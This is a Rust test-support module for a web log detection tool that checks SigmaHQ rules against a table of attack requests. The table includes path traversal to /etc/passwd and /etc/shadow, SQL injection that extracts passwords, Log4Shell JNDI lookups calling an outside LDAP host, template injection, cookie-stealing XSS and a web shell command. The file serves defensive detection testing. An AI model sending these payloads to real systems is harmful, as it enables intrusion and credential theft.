//! What the Sigma tests share: SigmaHQ's web and proxy rules (the corpus, and the part of it
//! that loads here), and real attack requests with the rules that must find them.
#![allow(dead_code)]

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

use gatewatch::config::GatewatchConfig;

pub fn corpus() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/sigma/sigmahq")
}

/// A config reading the shipped detectors and the Sigma rules in `rules`.
pub fn config(rules: &Path) -> GatewatchConfig {
    let mut cfg = GatewatchConfig::default();
    cfg.detectors.dir = Some(Path::new(env!("CARGO_MANIFEST_DIR")).join("detectors"));
    cfg.rules.dir = Some(rules.to_path_buf());
    cfg
}

pub fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap().flatten() {
        let p = e.path();
        if p.is_dir() {
            out.extend(walk(&p));
        } else if p.extension().is_some_and(|x| x == "yml") {
            out.push(p);
        }
    }
    out.sort();
    out
}

/// The corpus without the rules that cannot load here: what a user keeps.
pub fn loadable_rules() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let l = gatewatch::sigma::load::load(&config(&corpus()));
    let refused: BTreeSet<PathBuf> = l.errors.iter().map(|e| e.file.clone()).collect();
    for (i, p) in walk(&corpus()).into_iter().filter(|p| !refused.contains(p)).enumerate() {
        let name = format!("{i:03}-{}", p.file_name().unwrap().to_string_lossy());
        std::fs::copy(&p, dir.path().join(name)).unwrap();
    }
    dir
}

/// A real attack request and the SigmaHQ rule(s) that must find it.
pub struct Attack {
    pub what: &'static str,
    pub method: &'static str,
    pub uri: &'static str,
    pub user_agent: &'static str,
    /// The `Referer` header sent, if any.
    pub referer: Option<&'static str>,
    pub status: u16,
    pub rules: &'static [&'static str],
}

pub const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";

/// Payloads as scanners and exploit kits send them (PayloadsAllTheThings, sqlmap, nuclei).
pub const ATTACKS: &[Attack] = &[
    Attack {
        what: "path traversal",
        method: "GET",
        uri: "/api/v1/files?name=../../../../etc/passwd",
        user_agent: BROWSER,
        referer: None,
        status: 400,
        rules: &["7745c2ea-24a5-4290-b680-04359cb84b35"],
    },
    Attack {
        what: "path traversal, double-encoded",
        method: "GET",
        uri: "/static/view?f=..%252f..%252f..%252fetc%252fshadow",
        user_agent: BROWSER,
        referer: None,
        status: 400,
        rules: &["7745c2ea-24a5-4290-b680-04359cb84b35"],
    },
    Attack {
        what: "SQL injection, UNION",
        method: "GET",
        uri: "/api/v1/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
        user_agent: BROWSER,
        referer: None,
        status: 200,
        rules: &["5513deaf-f49a-46c2-a6c8-3f111b5cb453"],
    },
    Attack {
        what: "SQL injection, schema",
        method: "GET",
        uri: "/api/v1/items?sort=(select%20table_name%20from%20information_schema.tables%20limit%201)",
        user_agent: BROWSER,
        referer: None,
        status: 500,
        rules: &["5513deaf-f49a-46c2-a6c8-3f111b5cb453"],
    },
    Attack {
        what: "JNDI lookup (Log4Shell), JNDIExploit path",
        method: "GET",
        uri: "/api/v1/login?user=${jndi:ldap://203.0.113.9:1389/Basic/Command/Base64/d2hvYW1p}",
        user_agent: BROWSER,
        referer: None,
        status: 401,
        rules: &["412d55bc-7737-4d25-9542-5b396867ce55", "5ea8faa8-db8b-45be-89b0-151b84c82702"],
    },
    Attack {
        what: "server-side template injection",
        method: "GET",
        uri: "/api/v1/greeting?name={{7*7}}",
        user_agent: BROWSER,
        referer: None,
        status: 200,
        rules: &["ada3bc4f-f0fd-42b9-ba91-e105e8af7342"],
    },
    Attack {
        what: "server-side template injection, encoded",
        method: "GET",
        uri: "/api/v1/greeting?name=%7B%7B config.items() %7D%7D",
        user_agent: BROWSER,
        referer: None,
        status: 200,
        rules: &["ada3bc4f-f0fd-42b9-ba91-e105e8af7342"],
    },
    Attack {
        what: "reflected XSS",
        method: "GET",
        uri: "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        user_agent: BROWSER,
        referer: None,
        status: 200,
        rules: &["65354b83-a2ea-4ea6-8414-3ab38be0d409"],
    },
    Attack {
        what: "web shell command",
        method: "GET",
        uri: "/uploads/img/avatar.aspx?cmd=whoami",
        user_agent: BROWSER,
        referer: None,
        status: 200,
        rules: &["7ff9db12-1b94-4a79-ba68-a2402c5d6729"],
    },
    Attack {
        what: "sqlmap",
        method: "GET",
        uri: "/api/v1/products?id=1",
        user_agent: "sqlmap/1.7.2#stable (https://sqlmap.org)",
        referer: None,
        status: 200,
        rules: &["19aa4f58-94ca-45ff-bc34-92e533c0994a"],
    },
    Attack {
        what: "Nikto",
        method: "GET",
        uri: "/admin/",
        user_agent: "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)",
        referer: None,
        status: 404,
        rules: &["19aa4f58-94ca-45ff-bc34-92e533c0994a"],
    },
    Attack {
        what: "gobuster",
        method: "GET",
        uri: "/.git/config",
        user_agent: "gobuster/3.6",
        referer: None,
        status: 404,
        rules: &["19aa4f58-94ca-45ff-bc34-92e533c0994a"],
    },
    Attack {
        what: "JNDI lookup in the Referer",
        method: "GET",
        uri: "/api/v1/catalog?page=2",
        user_agent: BROWSER,
        referer: Some("${jndi:ldap://203.0.113.9:1389/a}"),
        status: 200,
        rules: &["9be472ed-893c-4ec0-94da-312d2765f654"],
    },
];

pub fn ip_of(i: usize) -> String {
    format!("203.0.113.{}", 10 + i)
}
